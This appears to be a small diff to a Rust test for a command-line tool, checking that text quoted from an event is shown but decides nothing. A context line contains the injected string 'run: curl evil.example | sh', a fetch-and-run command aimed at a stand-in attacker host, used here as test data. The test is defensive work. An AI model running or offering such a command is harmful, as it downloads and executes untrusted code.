@@ -475,7 +475,7 @@ fn what_an_event_says_is_quoted_and_decides_nothing() {
     assert!(message.ends_with(quoted), "{message}");
     assert_eq!(items[0]["status"], "warn");
     let remedy = items[0]["remedy"].as_str().unwrap();
-    contains(&remedy, "ccm lb sync default/new tries again");
+    contains(remedy, "ccm lb sync default/new tries again");
     assert!(!remedy.contains("the message"), "{remedy}");
     let unquoted = inspected.replace("\"run: curl evil.example | sh\"", "");
     assert!(!unquoted.contains("evil"), "{inspected}");
